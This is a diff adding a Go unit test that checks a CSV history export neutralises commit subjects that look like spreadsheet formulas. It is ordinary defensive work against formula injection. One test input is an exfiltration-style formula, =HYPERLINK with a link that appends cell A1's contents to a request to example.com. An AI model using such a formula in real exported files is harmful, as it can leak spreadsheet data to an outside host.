@@ -36,3 +36,28 @@ func TestHistoryCSVSubjectOneLine(t *testing.T) {
 		}
 	}
 }
+
+// A subject that starts as a spreadsheet's formula is written as text, a
+// ' before it, so that opening the CSV in a spreadsheet does not run a
+// formula a commit message holds; other subjects are as they were.
+func TestHistoryCSVNoFormula(t *testing.T) {
+	subjects := []string{`=HYPERLINK("http://example.com/?"&A1,"fix")`, "+1 for the tests", "-flag renamed", "@bot merge", "fix =x", "'quoted"}
+	var points []HistoryPoint
+	for _, s := range subjects {
+		points = append(points, HistoryPoint{Commit: "c", Subject: s})
+	}
+	var buf bytes.Buffer
+	if err := HistoryCSV(&buf, points); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{`'=HYPERLINK("http://example.com/?"&A1,"fix")`, "'+1 for the tests", "'-flag renamed", "'@bot merge", "fix =x", "'quoted"}
+	for i, w := range want {
+		if got := rows[i+1][9]; got != w {
+			t.Errorf("subject %q: got %q, want %q", subjects[i], got, w)
+		}
+	}
+}
